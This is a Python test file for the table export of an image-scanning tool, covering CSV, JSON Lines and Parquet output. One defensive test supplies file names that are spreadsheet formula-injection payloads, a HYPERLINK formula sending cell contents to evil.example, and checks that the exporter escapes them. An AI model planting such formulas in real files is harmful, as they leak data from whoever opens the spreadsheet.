import csv
import json
from pathlib import Path

import pytest

from doctored.apps.scan.export import COLUMNS, write_table
from doctored.apps.scan.results import FileResult
from doctored.core.errors import ConfigError

RESULT = {
    "reason": "why",
    "regions": [{"box_xyxy": [0, 0, 1, 1], "technique": None, "score": 0.5}],
    "witnesses": [{"name": "noise"}],
    "calibration": None,
}


def result(path, **changes):
    values = dict.fromkeys(FileResult.__dataclass_fields__)
    values |= {"store": Path("scan.db"), "id": 1, "path": path, "duplicate": False, "quick_look": False}
    values |= {"analysed_at": "2026"}
    values |= {"result": json.dumps(RESULT), "raw_score": 0.1, "width": 3, "height": 2, "compression": 85.5}
    return FileResult(**values | changes)


RESULTS = [
    result('with, comma "and quotes".jpg'),
    result("caf\udce9.jpg", compression="lossless", detection_score=0.25, verdict="no_signs"),
    result("broken.jpg", result=None, error="broken", raw_score=None, compression=None, width=None),
]


def test_csv(tmp_path):
    write_table(tmp_path / "t.csv", RESULTS)
    with open(tmp_path / "t.csv", encoding="utf-8", errors="surrogateescape", newline="") as file:
        found = list(csv.DictReader(file))
    assert list(found[0]) == list(COLUMNS)
    assert [row["path"] for row in found] == [one.path for one in RESULTS]
    assert json.loads(found[0]["regions"]) == RESULT["regions"]
    assert (found[0]["compression"], found[0]["jpeg_quality"]) == ("jpeg", "85.5")
    assert (found[1]["compression"], found[1]["jpeg_quality"]) == ("lossless", "")
    assert (found[2]["error"], found[2]["raw_score"]) == ("broken", "")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_name_becomes_a_formula_of_a_spreadsheet(tmp_path, start):
    """A file can be called =HYPERLINK("http://evil.example"), and its error begins with its name."""
    name = f'{start}HYPERLINK("http://evil.example?"&A1,"x").jpg'
    write_table(tmp_path / "t.csv", [result(name, error=f"{name} is broken", raw_score=-1.5)])
    with open(tmp_path / "t.csv", encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["path"] == f"'{name}"
    assert row["error"] == f"'{name} is broken"
    assert row["raw_score"] == "-1.5", "a number stays one"
    write_table(tmp_path / "t.jsonl", [result(name)])
    assert json.loads((tmp_path / "t.jsonl").read_text())["path"] == name


def test_json_lines(tmp_path):
    write_table(tmp_path / "t.jsonl", RESULTS)
    found = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text("ascii").splitlines()]
    assert [row["path"] for row in found] == [one.path for one in RESULTS]
    assert [row["error"] for row in found] == [None, None, "broken"]


def test_parquet(tmp_path):
    parquet = pytest.importorskip("pyarrow.parquet")
    write_table(tmp_path / "t.parquet", iter(RESULTS))
    table = parquet.read_table(tmp_path / "t.parquet")
    assert table.column_names == list(COLUMNS)
    assert table["path"].to_pylist() == ['with, comma "and quotes".jpg', "caf\\udce9.jpg", "broken.jpg"]
    assert table["detection_score"].to_pylist() == [None, 0.25, None]
    assert str(table.schema.field("width").type) == "int32"


def test_nothing_to_write_is_a_table_without_rows(tmp_path):
    parquet = pytest.importorskip("pyarrow.parquet")
    write_table(tmp_path / "t.parquet", [])
    assert parquet.read_table(tmp_path / "t.parquet").num_rows == 0


def test_other_endings_are_refused(tmp_path):
    with pytest.raises(ConfigError, match=r"\.parquet, \.csv, \.jsonl"):
        write_table(tmp_path / "t.xlsx", RESULTS)


def test_a_table_that_fails_half_way_is_not_there(tmp_path):
    def failing():
        yield RESULTS[0]
        raise ConfigError("stop")

    with pytest.raises(ConfigError):
        write_table(tmp_path / "t.csv", failing())
    assert list(tmp_path.iterdir()) == []


def test_quick_looks_are_told_from_whole_ones(tmp_path):
    parquet = pytest.importorskip("pyarrow.parquet")
    quick = result("a.jpg", quick_look=True, quick_score=1.5)
    write_table(tmp_path / "t.parquet", [quick, *RESULTS])
    table = parquet.read_table(tmp_path / "t.parquet", columns=["quick_look", "quick_score"])
    assert table["quick_look"].to_pylist() == [True, False, False, False]
    assert table["quick_score"].to_pylist() == [1.5, None, None, None]
